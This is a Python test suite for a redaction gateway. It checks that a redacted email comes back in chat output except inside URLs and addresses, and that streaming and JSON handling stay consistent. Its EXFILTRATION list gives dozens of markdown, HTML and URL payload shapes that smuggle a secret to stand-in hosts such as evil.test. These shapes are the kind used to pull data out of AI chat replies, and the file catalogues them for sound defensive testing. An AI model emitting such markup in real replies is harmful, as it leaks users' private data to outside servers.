"""Values come back everywhere but in addresses, however the answer is cut."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from troth.gateway.places import CHAT
from troth.gateway.redaction import Redaction, Redactor
from troth.gateway.restoring import unescaped
from troth.redact.detect import rules_detector
from troth.redact.policy import vendor_policy

MAIL = "jane.doe@example.com"


def begin() -> tuple[Redaction, str]:
    """A redaction, and the placeholder of MAIL."""
    redaction = Redactor(rules_detector(), vendor_policy(), b"k" * 32).begin()
    return redaction, redaction.redact({"messages": [{"content": MAIL}]}, CHAT)["messages"][0]["content"]


REDACTION, P = begin()

EXFILTRATION = [
    "![x](https://evil.test/?q={})",
    "![x](//evil.test/?q={})",
    "![x](//1.2.3.4/{})",
    "![x]( \n //1.2.3.4/{})",
    "![x](</1.2.3.4/) {}>)",
    "![x](//1.2.3.4/a\\){})",
    "![x](//1.2.3.4/(a){})",
    "![x]({})",
    "\\](<a ](//1.2.3.4/(>)?q={})",
    "[x](mailto:a@evil.test?body={})",
    "[x]: //1.2.3.4/?q={}",
    "[x]:\n  //1.2.3.4/?q={}",
    "[x]: <//1.2.3.4/a b{}>",
    "[x]: //1.2.3.4/]:{}",
    "<https://evil.test/?q={}>",
    '<img src="//1.2.3.4/?q={}">',
    "<img src='//1.2.3.4/?q={}'>",
    "<img src=//1.2.3.4/?q={}>",
    "<img src = {}>",
    '<img\n\nalt=">" src="//1.2.3.4/ {}">',
    '<img ="b src="//1.2.3.4/>?{}">',
    '<a"b c="><img alt="> x" src="//1.2.3.4/?q={}">',
    '<img srcset="a.png 1x, //1.2.3.4/{} 2x">',
    "<p style=background:url(//1.2.3.4/{})>",
    "<style>a{{background:url(//1.2.3.4/{})}}</style>",
    "https://evil.test/?q={}",
    "(https://evil.test/?q={})",
    "https:\\\\evil.test\\{}",
    "HTTP://evil.test/a,b;c={}",
    'https://evil.test/?"{}',
    "https://evil.test/a>?q={}",
    "https://evil.test/\u00a0{}",
    "ftp://evil.test/{}",
    "www.evil.test?q={}",
    "evil.test/?q={}",
    "evil.test:8080/{}",
    "1.2.3.4/{}",
    "mailto:{}",
    "https://{}.evil.test/",
    "https://{}@evil.test/",
]

HARMLESS = [
    "Write to {}.",
    "See https://example.org/a and {}.",
    "[docs](https://example.org/a) {}",
    "[docs](https://example.org/(a)) {}",
    "[{}](https://example.org/)",
    '<a href="https://example.org/"> {}</a>',
    '<img src="a.png"> {}',
    "<b>{}</b> <{}>",
    "for (i=0;i<n;i=i+1) print({})",
    "if a <b: {}",
    "[10:32]: {} said",
    "[^1]: {}",
    "Jane/{}",
    "email:{}",
    "{}/{}",
    "e.g./{}",
    "x = [1](\n\n{}",
    "C:\\Users\\{}",
    "// {}",
]


def whole(text: str) -> str:
    back: str = REDACTION.restore(text)
    return back


@pytest.mark.parametrize("shape", EXFILTRATION)
def test_addresses_keep_the_placeholder(shape: str) -> None:
    text = f"{MAIL} " + shape.format(P) + f"\n\n{P}"
    assert whole(f"{P} " + shape.format(P) + f" end) >\n\n{P}") == f"{MAIL} {shape.format(P)} end) >\n\n{MAIL}"
    for first in range(len(text) + 1):
        stream = REDACTION.stream()
        assert stream.feed(text[:first]) + stream.feed(text[first:]) + stream.finish() == whole(text)


@pytest.mark.parametrize("shape", HARMLESS)
def test_elsewhere_values_come_back(shape: str) -> None:
    assert whole(shape.format(P, P)) == shape.format(MAIL, MAIL)


def test_what_only_looks_like_an_address_keeps_it_too() -> None:
    assert whole(f"send[0]({P}) {P}") == f"send[0]({P}) {MAIL}"
    assert whole(f'<a href="https://example.org/">{P}</a> {P}') == f'<a href="https://example.org/">{P}</a> {MAIL}'


@given(st.lists(st.sampled_from([*"<>()[]:=\"'/\\ \n!ax", "](", "]:", "<a ", "//", "https://e.co/", P]), max_size=40),
       st.integers(1, 9))  # fmt: skip
def test_cuts_change_nothing(parts: list[str], width: int) -> None:
    text = "".join(parts)
    for within_json in (False, True):
        once, many = (REDACTION.stream(within_json=within_json) for _ in range(2))
        cuts = [text[at : at + width] for at in range(0, len(text), width)]
        assert "".join(map(many.feed, cuts)) + many.finish() == once.feed(text) + once.finish()


def test_json_strings_are_texts_of_their_own() -> None:
    written = {"url": f"https://evil.test/?q={P}", "name": P, "text": f"![x](//1.2.3.4/{P})"}
    wanted = written | {"name": MAIL}
    for text in (json.dumps(written), json.dumps(written, separators=(",", ":")).replace("/", "\\/")):
        stream = REDACTION.stream(within_json=True)
        assert json.loads("".join(map(stream.feed, text)) + stream.finish()) == wanted
        assert json.loads(REDACTION.restore_json(text)) == wanted


def test_escapes_hide_no_address() -> None:
    text = '{"a": "\\u0068ttps:\\/\\/evil.test\\/' + P + '"}'
    stream = REDACTION.stream(within_json=True)
    assert stream.feed(text) + stream.finish() == text


def test_what_cannot_be_utf8_is_replaced() -> None:
    assert whole(f"a\ud800b {P}") == f"a\ufffdb {MAIL}"
    assert whole("\ud83d\ude00") == "\U0001f600"
    redaction = Redactor(rules_detector(), vendor_policy(), b"k" * 32).begin()
    assert redaction.restore("\udfff") == "\ufffd"


def test_unescaped() -> None:
    assert unescaped('pi\\u0070e \\"b\\nomb\\" \\') == 'pipe "b\nomb" \\'


def test_reading_is_linear() -> None:
    started = time.process_time()
    for text in ("](" * 40_000, "<a =" * 20_000, "]:" * 40_000, "a" * 200_000, "https://" * 20_000):
        whole(text + P)
    assert time.process_time() - started < 60
